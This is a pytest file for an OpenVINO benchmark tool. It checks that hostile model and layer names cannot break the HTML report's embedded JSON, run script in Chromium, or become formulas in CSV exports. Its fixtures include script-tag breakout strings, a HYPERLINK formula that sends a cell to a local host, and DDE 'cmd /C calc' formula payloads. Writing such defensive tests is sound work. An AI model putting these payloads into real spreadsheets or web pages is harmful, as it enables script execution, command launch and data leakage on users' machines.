"""Issue 16 item 8: names from a model must not break the report's embedded JSON, run script
in the report, or become spreadsheet formulas in any CSV we write.

Real parts only: an IR built with openvino.opset, a real (short) benchmark and profile stored
in a real workspace, the real comparison/report code, and the report opened in Chromium.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import numpy as np
import pytest

from benchmark_models import conv_net
from core.benchmark import BenchmarkSettings, profile_model, run_benchmark, save_result
from core.benchmark.profile_summary import layers_csv
from core.compare.comparison import build_comparison
from core.compare.report import to_csv, to_html
from core.safe_output import csv_cell
from core.variants import create_model, get_variant, register_variant, variant_xml

MODEL_NAME = "m<!--<script>"  # the name: `<!--` then `<script>` swallowed the real end tag
SCRIPT_NAME = "</script><script>window.__pwned=1</script>"
FORMULA_VARIANT = '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"click")'
FORMULA_MODEL = "@SUM(1+1)*cmd|' /C calc'!A0"
EMBEDDED = re.compile(r'<script type="application/json" id="comparison-data">(.*?)</script>', re.S)


def _benchmarked(folder: Path, model_name: str, variant_name: str) -> int:
    xml = conv_net(folder, "net", dynamic_batch=False, size=16)
    model_id = create_model(model_name, "ir")
    variant_id = register_variant(model_id, xml, "FP32", "imported", name=variant_name)
    settings = BenchmarkSettings.from_params({"duration_s": 0.5, "hint": "latency"})
    path = variant_xml(get_variant(variant_id))
    metrics = run_benchmark(path, settings)
    return save_result("benchmark", {**settings.to_config(), "model_path": str(path)}, metrics, variant_id, None,
                       settings.device)


@pytest.fixture
def hostile_report(workspace: Path, tmp_path: Path) -> tuple[dict, str]:  # type: ignore[type-arg]
    ids = [_benchmarked(tmp_path / "a", MODEL_NAME, FORMULA_VARIANT),
           _benchmarked(tmp_path / "b", SCRIPT_NAME, "-2+3"),
           _benchmarked(tmp_path / "c", FORMULA_MODEL, "plain")]
    doc = build_comparison(ids)
    return doc, to_html(doc)


def test_embedded_json_parses_with_hostile_names(hostile_report: tuple[dict, str]) -> None:  # type: ignore[type-arg]
    doc, page = hostile_report
    block = EMBEDDED.search(page)
    assert block, "the embedded JSON block must end at its own </script>"
    data = json.loads(block.group(1))
    assert [row["model"] for row in data["rows"]] == [MODEL_NAME, SCRIPT_NAME, FORMULA_MODEL]
    assert "<" not in block.group(1) and ">" not in block.group(1) and "&" not in block.group(1)


def test_comparison_csv_neutralises_formula_cells(hostile_report: tuple[dict, str]) -> None:  # type: ignore[type-arg]
    doc, _ = hostile_report
    rows = list(csv.DictReader(io.StringIO(to_csv(doc))))
    assert rows[0]["Variant"].startswith("#")  # "#<id> <name>": not a formula, left as it is
    assert rows[0]["Variant"].endswith(FORMULA_VARIANT)
    assert rows[2]["Model"] == "'" + FORMULA_MODEL  # shown as text by a spreadsheet, not evaluated
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.startswith("-0") or re.fullmatch(r"-[\d.e+-]+", value), value
    # numbers stay numbers (negatives too)
    assert float(rows[0]["FPS"]) > 0 and csv_cell("-1.5") == "-1.5" and csv_cell(-1.5) == -1.5


def test_csv_cell_rules() -> None:
    for hostile in ("=1+2", "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("x")'):
        assert csv_cell(hostile) == "'" + hostile
    for harmless in ("conv1", "#3 FP32", "-1", "1e-3", "", "a=b"):
        assert csv_cell(harmless) == harmless


def test_profile_csv_neutralises_layer_names(tmp_path: Path) -> None:
    """A real profile of a model whose layer names are formulas."""
    import openvino as ov
    import openvino.opset13 as ops

    x = ops.parameter([1, 8], np.float32, name="=cmd|' /C calc'!A0")
    weights = ops.constant(np.ones((8, 8), np.float32))
    matmul = ops.matmul(x, weights, False, False)
    matmul.set_friendly_name("@SUM(1+1)*cmd|' /C calc'!A0")
    relu = ops.relu(matmul)
    relu.set_friendly_name("+1+1")
    model = ov.Model([ops.result(relu)], [x], "formulas")
    xml = tmp_path / "formulas.xml"
    ov.save_model(model, str(xml))
    profile = profile_model(xml, BenchmarkSettings(hint="latency", infer_precision="f32"), iterations=5)
    names = {row["name"] for row in profile["layers"]}
    assert any(n.startswith(("=", "+", "@")) for n in names), names  # the attack reached the profile
    rows = list(csv.reader(io.StringIO(layers_csv(profile["layers"]))))
    for row in rows[1:]:
        assert not row[1].startswith(("=", "+", "-", "@")), row[1]
    written = {row[1] for row in rows[1:]}
    assert {"'" + n if n.startswith(("=", "+", "@")) else n for n in names} == written


@pytest.mark.browser
def test_report_runs_no_script_in_chromium(hostile_report: tuple[dict, str], tmp_path: Path, page) -> None:  # type: ignore[no-untyped-def,type-arg]
    doc, html_text = hostile_report
    report = tmp_path / "report.html"
    report.write_text(html_text, encoding="utf-8")
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.context.route("**/*", lambda route: route.abort() if not route.request.url.startswith("file:") else route.continue_())
    page.goto(report.as_uri())
    page.wait_for_selector(".plotly-graph-div")
    assert page.evaluate("window.__pwned") is None
    data = page.evaluate("JSON.parse(document.getElementById('comparison-data').textContent)")
    assert [row["model"] for row in data["rows"]] == [MODEL_NAME, SCRIPT_NAME, FORMULA_MODEL]
    # the names are shown as text in the table, not parsed as markup
    assert page.get_by_text(SCRIPT_NAME).count() >= 1
    assert page.locator("script").count() == html_text.count("<script")
    assert not dialogs
